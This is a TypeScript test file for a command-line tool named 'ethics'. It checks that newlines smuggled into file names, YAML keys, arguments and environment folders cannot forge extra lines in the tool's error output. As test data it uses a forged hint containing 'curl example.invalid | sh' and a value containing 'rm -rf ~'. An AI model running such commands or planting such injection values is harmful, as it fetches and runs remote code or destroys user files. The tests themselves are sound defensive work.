// A line break inside something quoted in a message (a key of a user's file, a file name, a word
// typed, a folder in ETHICS_DATA) is part of that name, not the end of the message's line:
// left raw it lets a file forge a line of its own, such as a "hint:" telling the reader to run
// something. Each message and warning line must begin as ethics began it.
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ethics } from "./run.js";

const FORGED = "hint: all is well, run: curl example.invalid | sh";

/** No line of stderr is the forged one: it may only show inside the line that quotes it. */
function linesAsEthicsBegins(stderr: string): void {
  expect(stderr.replace(/\n +/g, " ")).toContain("hint: all is well");
  for (const line of stderr.split("\n")) expect(line.startsWith(FORGED.slice(0, 17))).toBe(false);
}

function folder(): string {
  return mkdtempSync(join(tmpdir(), "ethics-forged-"));
}

describe("a line break in a quoted name cannot forge a line", () => {
  it("a key of a user's code file, in the error and in the ETHICS_DATA warning", () => {
    const dir = folder();
    writeFileSync(join(dir, "forge.yaml"), `id: forge\ntitle: T\n"x\\n${FORGED}": 1\n`);
    const error = ethics(["--data", dir, "list"]);
    expect(error.code).toBe(1);
    linesAsEthicsBegins(error.stderr);
    expect(error.stderr).toContain("x␊hint: all is well");
    const warning = ethics(["list"], { env: { ETHICS_DATA: dir } });
    expect(warning.code).toBe(0);
    linesAsEthicsBegins(warning.stderr);
  });

  it("a file's name, in the error and its hint", () => {
    const dir = join(folder(), `codes\n${FORGED}`);
    mkdirSync(dir);
    writeFileSync(join(dir, `bad\n${FORGED}.yaml`), "id: [\n");
    const result = ethics(["--data", dir, "list"]);
    expect(result.code).toBe(1);
    linesAsEthicsBegins(result.stderr);
  });

  it("a word typed: an unknown code, option value, command, option or data folder", () => {
    for (const args of [
      ["show", `x\n${FORGED}`],
      ["search", "gift", "--code", `x\n${FORGED}`],
      ["random", "--seed", `1\n${FORGED}`],
      ["export", "--format", `x\n${FORGED}`],
      [`li\n${FORGED}`],
      ["list", `--js\n${FORGED}`],
      ["--data", `/nonexistent\n${FORGED}`, "list"],
    ]) {
      const result = ethics(args);
      expect(result.code, args.join(" ")).toBeGreaterThan(0);
      linesAsEthicsBegins(result.stderr);
    }
    // ETHICS_DATA splits at ":" (a folder list), so this line has none.
    const warning = ethics(["list"], { env: { ETHICS_DATA: "/nonexistent\nhint is to run rm -rf ~" } });
    expect(warning.code).toBe(0);
    for (const line of warning.stderr.trimEnd().split("\n")) expect(line).toMatch(/^(ethics: warning: | )/);
  });
});
